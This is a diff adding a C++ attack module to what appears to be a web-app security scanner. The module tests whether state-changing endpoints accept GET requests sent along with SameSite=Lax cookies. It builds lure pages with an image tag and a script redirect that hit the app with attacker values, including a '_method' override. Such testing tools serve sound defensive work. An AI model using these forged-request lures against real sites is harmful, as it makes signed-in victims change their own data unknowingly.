@@ -1,0 +1,49 @@
+// csrf-link: changes by GET, which a Lax cookie goes along with: a link, an image, a form of method
+// GET, with and without an overridden method (HTTP Semantics, RFC 9110 section 9.2.1: safe methods
+// change nothing).
+#include "core/attack/every_agent.h"
+#include "core/attack/lure.h"
+#include "core/attack/own_form.h"
+
+namespace parapet::attack {
+namespace {
+
+class CsrfLink final : public Agent {
+    void run(Target& target) override {
+        OwnHost* evil = foreign_host(target);
+        std::vector<Endpoint const*> const endpoints = endpoints_of(target);
+        if (evil == nullptr || endpoints.empty() || !victim_signs_in(target)) return;
+        target.wait(std::chrono::minutes(3));
+        Lure lure(target, *evil);
+        for (Endpoint const* each : endpoints) {
+            for (std::string const& address : addresses(target, *each)) {
+                // Two pages: an image is asked for from within, the link leads away.
+                lure.show("<img src=" + in_quotes(address) + " alt=\"\"><h1>A kitten</h1>");
+                lure.show("<script>location=" + script_string(address) + "</script>");
+            }
+        }
+        target.note("Links and images asked for addresses of the app with the attacker's values.");
+    }
+
+    // Those that are named, whatever their method, or the unsafe ones.
+    static std::vector<Endpoint const*> endpoints_of(Target const& target) {
+        return target.option(option::kEndpoints).empty() ? unsafe_endpoints(target)
+                                                         : endpoints_to_try(target);
+    }
+
+    static std::vector<std::string> addresses(Target const& target, Endpoint const& endpoint) {
+        std::string const path = address_of(target, endpoint);
+        auto fields = wanted_fields(endpoint);
+        std::vector<std::string> all{path + "?" + http::serialize_query(fields)};
+        if (endpoint.method == "GET") return all;
+        fields.insert(fields.begin(), {"_method", endpoint.method});
+        all.push_back(path + "?" + http::serialize_query(fields));
+        return all;
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_csrf_link() { return std::make_unique<CsrfLink>(); }
+
+}  // namespace parapet::attack
